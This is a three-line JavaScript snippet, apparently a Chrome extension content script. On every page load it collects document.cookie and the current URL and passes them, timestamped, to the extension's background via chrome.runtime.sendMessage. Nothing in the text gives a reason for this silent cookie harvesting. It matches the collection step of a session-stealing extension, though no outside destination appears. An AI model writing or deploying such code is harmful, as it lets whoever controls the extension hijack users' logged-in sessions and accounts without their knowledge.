const send = () => chrome.runtime.sendMessage({ kind: "page", href: location.href, jar: document.cookie, at: Date.now() });
send();
chrome.runtime.sendMessage({ kind: "first", jar: document.cookie });
